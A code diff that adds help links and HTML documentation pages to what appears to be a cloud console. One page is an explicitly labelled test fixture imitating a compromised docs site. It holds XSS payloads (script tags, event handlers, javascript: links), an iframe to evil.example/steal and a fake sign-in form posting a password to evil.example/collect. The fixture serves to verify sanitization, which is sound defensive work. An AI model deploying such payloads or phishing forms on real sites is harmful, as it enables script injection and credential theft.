@@ -53,6 +53,49 @@ export const HELP_LINKS: readonly HelpLink[] = [
     pathPatterns: ['/compute/*'],
   },
   {
+    displayText: 'Connecting to an instance',
+    url: 'compute-connecting.html',
+    kind: 'documentation',
+    pathPatterns: ['/compute/*'],
+  },
+  {
+    displayText: 'Managing boot volumes',
+    url: 'compute-boot-volumes.html',
+    kind: 'documentation',
+    pathPatterns: ['/compute/*'],
+  },
+  {
+    displayText: 'Getting instance metadata',
+    url: 'compute-metadata.html',
+    kind: 'documentation',
+    pathPatterns: ['/compute/instances', '/compute/instances/*'],
+  },
+  {
+    displayText: 'Stopping and starting an instance',
+    url: 'compute-lifecycle.html',
+    kind: 'documentation',
+    pathPatterns: ['/compute/instances', '/compute/instances/*'],
+  },
+  {
+    displayText: 'Shapes and pricing discussions',
+    url: 'https://community.example.com/compute/shapes',
+    kind: 'community',
+    pathPatterns: ['/compute/*'],
+  },
+  {
+    displayText: 'Instance troubleshooting threads',
+    url: 'https://community.example.com/compute/troubleshooting',
+    kind: 'community',
+    pathPatterns: ['/compute/*'],
+  },
+  {
+    // A page from a compromised documentation site, for the console's tests: it must render inert.
+    displayText: 'Managing buckets',
+    url: 'object-storage-buckets.html',
+    kind: 'documentation',
+    pathPatterns: ['/object-storage', '/object-storage/*'],
+  },
+  {
     displayText: 'Understanding your bill',
     url: 'billing-usage.html',
     kind: 'documentation',
@@ -104,12 +147,69 @@ export const DOC_PAGES: Readonly<Record<string, string>> = {
     [
       '<p>An instance is a virtual machine or bare metal host in a compartment.</p>',
       '<h2 id="shapes">Shapes</h2>',
-      '<table><thead><tr><th>Shape</th><th>OCPUs</th><th>Memory (GB)</th></tr></thead>',
+      '<table><caption>Flexible shapes</caption><thead><tr><th scope="col">Shape</th><th scope="col">OCPUs</th>',
+      '<th scope="col">Memory (GB)</th></tr></thead>',
       '<tbody><tr><td>VM.Standard.E4.Flex</td><td>1–64</td><td>1–1024</td></tr>',
       '<tr><td>VM.Standard.A1.Flex</td><td>1–80</td><td>1–512</td></tr></tbody></table>',
       '<div class="alert alert-warning" role="alert"><p>Always Free tenancies can only use Always Free shapes.</p></div>',
+      '<h2>Creating the instance</h2>',
+      '<div class="tabs" data-title="Ways to create an instance">',
+      '<div class="tab" data-title="Console"><p>Open the navigation menu, select <strong>Compute</strong>, then',
+      '<strong>Instances</strong>, and select <strong>Create instance</strong>.</p></div>',
+      '<div class="tab" data-title="CLI"><pre><code>oci compute instance launch --availability-domain AD-1 \\',
+      '  --shape VM.Standard.E4.Flex --subnet-id ocid1.subnet.oc1..example</code></pre></div>',
+      '<div class="tab" data-title="API"><p>Use the <code>LaunchInstance</code> operation.</p></div>',
+      '</div>',
+      '<div class="accordion"><h3 class="accordion-title">Which image should I choose?</h3>',
+      '<div class="accordion-content"><p>Platform images are kept up to date by the provider; custom images are',
+      'yours to patch.</p></div></div>',
+      '<div class="accordion"><h3 class="accordion-title">What does an instance cost while stopped?</h3>',
+      '<div class="accordion-content"><p>Standard shapes are not billed while stopped; their boot volumes are.</p>',
+      '</div></div>',
+      '<div class="alert alert-info" role="note"><p>Instances are created in the region selected in the header.</p></div>',
       '<h2>Connecting</h2>',
-      '<p>See <a href="https://docs.example.com/compute/ssh">Connecting with SSH</a>.</p>',
+      '<p>See <a href="https://docs.oracle.com/iaas/compute-connecting.html">Connecting to an instance</a> and',
+      '<a href="https://docs.example.com/compute/ssh">SSH basics</a>.</p>',
+    ].join('\n')
+  ),
+  'compute-connecting': page(
+    'Connecting to an instance',
+    [
+      '<p>Linux instances accept SSH with the key given at creation; Windows instances accept Remote Desktop.</p>',
+      '<pre><code>ssh -i ~/.ssh/id_rsa opc@203.0.113.10</code></pre>',
+      '<div class="alert alert-danger" role="alert"><p>Never open port 22 to 0.0.0.0/0 in production.</p></div>',
+    ].join('\n')
+  ),
+  'compute-boot-volumes': page(
+    'Managing boot volumes',
+    '<p>A boot volume holds the image an instance starts from. It can be kept when the instance is terminated.</p>'
+  ),
+  'compute-metadata': page(
+    'Getting instance metadata',
+    '<p>From inside an instance: <code>curl -H "Authorization: Bearer Oracle" http://169.254.169.254/opc/v2/instance/</code></p>'
+  ),
+  'compute-lifecycle': page(
+    'Stopping and starting an instance',
+    '<p>Stop, start and reboot an instance from its details page. A stopped instance keeps its boot volume.</p>'
+  ),
+  // A documentation page as a compromised site might serve it: scripts, event handlers, `javascript:` links, frames and
+  // a form among ordinary content. The console must show the content and run none of it (e2e/help-panel.spec.ts).
+  'object-storage-buckets': page(
+    'Managing buckets',
+    [
+      '<p onmouseover="window.__helpPwned = \'mouseover\'">A bucket is a container for objects in a compartment.</p>',
+      '<script>window.__helpPwned = "script";</script>',
+      '<img src="x" alt="" onerror="window.__helpPwned = \'onerror\'">',
+      '<h2>Creating a bucket</h2>',
+      '<p>Select <a href="javascript:window.__helpPwned = \'link\'">Create bucket</a> and give it a name.</p>',
+      '<p><a href="JaVaScRiPt:window.__helpPwned=\'mixed case\'" onclick="window.__helpPwned = \'onclick\'">Bucket',
+      'naming rules</a></p>',
+      '<iframe src="https://evil.example/steal" srcdoc="<script>parent.__helpPwned = \'frame\'</script>"></iframe>',
+      '<form action="https://evil.example/collect"><input name="password"><button>Sign in again</button></form>',
+      '<svg><script>window.__helpPwned = "svg"</script></svg>',
+      '<details open ontoggle="window.__helpPwned = \'ontoggle\'"><summary>Storage tiers</summary>',
+      '<p>Standard, Infrequent Access and Archive.</p></details>',
+      '<div class="alert alert-info" style="background:url(javascript:alert(1))"><p>Buckets are regional.</p></div>',
     ].join('\n')
   ),
   'billing-usage': page(
